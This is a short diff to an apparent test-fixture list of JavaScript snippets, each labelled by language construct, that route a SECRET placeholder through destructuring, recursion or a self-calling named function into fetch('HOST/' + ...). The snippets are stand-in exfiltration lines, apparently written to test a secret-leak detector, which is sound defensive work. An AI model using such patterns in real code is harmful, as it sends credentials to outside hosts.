@@ -43,6 +43,10 @@ const CARRIERS: readonly Carrier[] = [
 	],
 	["destructuring with defaults and rest", `const { a = 1, ...rest } = { b: SECRET }; fetch("HOST/" + rest.b);`],
 	[
+		"a function that calls itself by its own name",
+		`fetch("HOST/" + (function again(left) { return left > 0 ? again(left - 1) : SECRET; })(3));`,
+	],
+	[
 		"a recursive function",
 		`function walk(list, out) { if (list.length === 0) return out; out.push(list[0]); return walk(list.slice(1), out); } fetch("HOST/" + walk([1, SECRET], []).join());`,
 	],
